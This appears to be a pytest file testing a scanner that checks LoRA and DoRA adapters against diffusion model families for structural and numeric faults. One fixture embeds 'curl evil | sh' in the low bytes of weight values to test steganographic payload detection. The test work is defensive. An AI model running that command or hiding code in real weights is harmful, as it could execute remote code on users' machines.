"""Attacks on what the families differ in: the part of the pipeline, text encoders, silent modules, DoRA.

A case is a name, what it changes of a clean adapter, and the rule that must answer.
"""

from __future__ import annotations

import json
from collections.abc import Callable

import numpy as np
import pytest

from fakes.adapters import MAGNITUDE, RANK, Factors, card, changed, container, rescaled
from fakes.families import BY_ID, SMALL, denoiser, folder_of, trained, with_text
from registry.families import FAMILIES
from registry.manifest import AdapterCard
from registry.scanning import ScanReport, scan
from registry.scanning.rules import RULES

UNET = "unet.mid_block.attentions.0.transformer_blocks.0.attn1.to_q"
TEXT = "text_encoder.text_model.encoder.layers.0.self_attn.q_proj"


def scanned(weights: bytes, values: object) -> ScanReport:
    return scan(weights, AdapterCard.parse(json.dumps(values).encode()), bases=BY_ID)


def rules(report: ScanReport) -> set[str]:
    return {found.rule for found in report.findings}


def pair(module: str, out: int = 32, into: int = 32, size: float = 0.01) -> Factors:
    return {
        f"{module}.lora_A.weight": np.full((RANK, into), size, np.float32),
        f"{module}.lora_B.weight": np.full((out, RANK), size, np.float32),
    }


def renamed(name: str, old: str, new: str) -> Factors:
    return {key.replace(old, new, 1): values for key, values in trained(name).items()}


# --- which part of the pipeline ---------------------------------------------------------------------------


def plus(family: str, module: str) -> Callable[[], Factors]:
    return lambda: trained(family) | pair(module)


def without(family: str, part: str) -> Callable[[], Factors]:
    return lambda: {key: value for key, value in trained(family).items() if part not in key}


def of_kohya() -> Factors:
    key = "lora_te_text_model_encoder_layers_0_mlp_fc1.lora_up.weight"
    return trained("sd15") | {key: np.ones((64, RANK), np.float32)}


PARTS: dict[str, tuple[str, Callable[[], Factors], str]] = {
    "a transformer's key for a U-Net": (
        "sdxl",
        lambda: renamed("sdxl", "unet.", "transformer."),
        "ADP-STR-001",
    ),
    "a U-Net's key for a transformer": (
        "flux",
        lambda: renamed("flux", "transformer.", "unet."),
        "ADP-STR-001",
    ),
    "both": ("sd15", plus("sd15", UNET.replace("unet.", "transformer.")), "ADP-STR-001"),
    "one module by two names": ("sd15", plus("sd15", UNET.removeprefix("unet.")), "ADP-STR-011"),
    "a module of another block": (
        "sd15",
        lambda: renamed("sd15", "mid_block", "mid_blocks"),
        "ADP-STR-003",
    ),
    "a convolution": ("sd15", plus("sd15", "unet.mid_block.attentions.0.proj_in"), "ADP-STR-003"),
    "a residual block": ("sdxl", plus("sdxl", "unet.mid_block.resnets.0.conv1"), "ADP-STR-003"),
    "the output of FLUX": ("flux", plus("flux", "transformer.proj_out"), "ADP-STR-003"),
    "a modulation of FLUX.2": (
        "flux2-klein",
        plus("flux2-klein", "transformer.single_stream_modulation.linear"),
        "ADP-STR-003",
    ),
    "a second attention where there is none": (
        "sd3",
        plus("sd3", "transformer.transformer_blocks.2.attn2.to_q"),
        "ADP-STR-003",
    ),
    "a single block left out": ("flux", without("flux", "single_transformer_blocks.1."), "ADP-STR-008"),
    "queries of the text in the last block": (
        "sd3",
        plus("sd3", "transformer.transformer_blocks.2.attn.add_q_proj"),
        "ADP-NUM-005",
    ),
    "a text encoder of FLUX.2": ("flux2-klein", plus("flux2-klein", TEXT), "ADP-STR-002"),
    "a text encoder of Qwen": ("qwen-image-edit", plus("qwen-image-edit", TEXT), "ADP-STR-002"),
    "a second text encoder of SD 1.5": ("sd15", plus("sd15", TEXT.replace("r.t", "r_2.t")), "ADP-STR-002"),
    "a third text encoder of SD 3": ("sd3", plus("sd3", TEXT.replace("r.t", "r_3.t")), "ADP-STR-002"),
    "the embeddings of a text encoder": (
        "sd15",
        plus("sd15", "text_encoder.text_model.embeddings.token_embedding"),
        "ADP-STR-002",
    ),
    "a layer that the text encoder lacks": (
        "sd15",
        plus("sd15", TEXT.replace("layers.0", "layers.7")),
        "ADP-STR-002",
    ),
    "a text encoder behind the U-Net": ("sd15", plus("sd15", f"unet.{TEXT}"), "ADP-STR-002"),
    "a text encoder behind the transformer": ("flux", plus("flux", f"transformer.{TEXT}"), "ADP-STR-002"),
    "a text encoder of kohya": ("sd15", of_kohya, "ADP-STR-002"),
    "a text encoder that nobody declared": (
        "sd15",
        lambda: trained("sd15", with_text("sd15")),
        "ADP-STR-007",
    ),
}


@pytest.mark.parametrize("name", PARTS)
def test_what_a_base_has_not_is_found(name: str) -> None:
    family, build, rule = PARTS[name]
    values = build()
    kinds = {*denoiser(family)}
    report = scanned(*folder_of(family, values, kinds))
    assert rule in rules(report), report.text()
    assert report.verdict == RULES[rule].severity


@pytest.mark.parametrize("family", [name for name, facts in FAMILIES.items() if facts.text_encoders])
def test_a_text_encoder_is_declared_allowed_and_looked_at_by_a_person(family: str) -> None:
    report = scanned(*folder_of(family, kinds=with_text(family)))
    assert rules(report) == {"ADP-STR-016"}
    assert [found.where for found in report.findings] == [*FAMILIES[family].text_encoders]
    assert report.verdict == "review"


def test_the_layer_of_a_text_encoder_that_nobody_reads_is_not_trained() -> None:
    """SDXL reads its first encoder before the last layer; its second one whole."""
    values = trained("sdxl", with_text("sdxl"))
    last = TEXT.replace("layers.0", "layers.1")
    assert not values[f"{last}.lora_B.weight"].any()
    report = scanned(*folder_of("sdxl", values | pair(last), with_text("sdxl")))
    assert rules(report) == {"ADP-NUM-005", "ADP-STR-016"}


def test_a_card_cannot_declare_a_text_encoder_that_its_family_has_not() -> None:
    values = trained("flux2-klein") | pair(TEXT)
    kinds = (*denoiser("flux2-klein"), "text_encoder.self_attn.q_proj")
    report = scanned(*folder_of("flux2-klein", values, kinds))
    assert rules(report) == {"ADP-STR-002", "ADP-STR-007"}


# --- DoRA -------------------------------------------------------------------------------------------------


def magnitudes(change: Callable[[Factors, str], object], family: str = "sd15") -> Factors:
    """A clean DoRA adapter of which a change is made at its first magnitude."""
    values = rescaled(trained(family))
    change(values, min(key for key in values if key.endswith(MAGNITUDE)))
    return values


def at(value: float) -> Callable[[Factors, str], object]:
    return lambda values, key: values[key].__setitem__(3, value)


def of_shape(*index: object) -> Callable[[Factors, str], object]:
    return lambda values, key: values.update({key: values[key][index]})


def elsewhere(values: Factors, key: str) -> None:
    values[f"{UNET.replace('.0.attn1', '.9.attn1')}.{MAGNITUDE}"] = values[key]


def payload(values: Factors, key: str) -> None:
    """Plausible magnitudes with a text in the lower halves of their bytes."""
    text = np.frombuffer(b"import os; os.system('curl evil | sh') # and so on and so on. " * 2, "<u2")
    words = (values[key].view("<u4") & np.uint32(0xFFFF0000)) | text[: len(values[key])]
    values[key] = words.view("<f4")


DORA: dict[str, tuple[Callable[[Factors, str], object], str]] = {
    "of another length": (of_shape(slice(-1)), "ADP-STR-005"),
    "of two axes": (of_shape(None), "ADP-STR-005"),
    "one number": (of_shape(slice(1)), "ADP-STR-005"),
    "of some modules": (lambda values, key: values.pop(key), "ADP-STR-017"),
    "of a module that the base lacks": (elsewhere, "ADP-STR-003"),
    "without A": (lambda values, key: values.pop(key.replace(MAGNITUDE, "lora_A.weight")), "ADP-STR-004"),
    "zero": (at(0.0), "ADP-NUM-013"),
    "negative": (at(-0.5), "ADP-NUM-013"),
    "NaN": (at(np.nan), "ADP-NUM-001"),
    "infinite": (at(np.inf), "ADP-NUM-001"),
    "huge": (at(2000.0), "ADP-NUM-006"),
    "text": (payload, "ADP-NUM-010"),
    "honest": (lambda values, key: None, "ADP-NUM-012"),
}


@pytest.mark.parametrize("name", DORA)
def test_a_magnitude_that_no_training_gives_is_found(name: str) -> None:
    change, rule = DORA[name]
    report = scanned(*folder_of("sd15", magnitudes(change)))
    assert rule in rules(report), report.text()
    assert rules(report) <= {rule, "ADP-NUM-012", "ADP-STR-008"}
    assert report.verdict == RULES[rule].severity


def test_magnitudes_of_sixteen_bits_are_refused() -> None:
    """They would change every row of the base by as much as a whole update does."""
    values = rescaled(trained("sd15"))
    weights = container({key.replace(MAGNITUDE, "x"): value for key, value in values.items()})
    # The same length of names, so that only the dtype of the magnitudes is another one.
    weights = weights.replace(b'.x"', b"." + MAGNITUDE.encode() + b'"')
    length = int.from_bytes(weights[:8], "little") + (len(MAGNITUDE) - 1) * weights.count(MAGNITUDE.encode())
    report = scanned(length.to_bytes(8, "little") + weights[8:], folder_of("sd15")[1])
    assert rules(report) == {"ADP-STR-009"}, report.text()


def test_a_magnitude_is_pointed_at() -> None:
    values = magnitudes(at(-0.5))
    report = scanned(*folder_of("sd15", values))
    worst = next(found for found in report.findings if found.rule == "ADP-NUM-013")
    assert worst.where.endswith(f".{MAGNITUDE}")
    assert [region.key for region in worst.regions] == [f"unet.{worst.where}"]


def test_a_base_that_nobody_knows_is_refused_whatever_its_family() -> None:
    weights, values = folder_of("sdxl")
    assert rules(scanned(weights, changed(values, "base.id", "tests/other"))) == {"ADP-STR-010"}
    assert rules(scanned(weights, changed(values, "base.family", "sd15"))) == {"ADP-STR-010"}
    assert card(SMALL["sdxl"])["base"]["family"] == "sdxl"
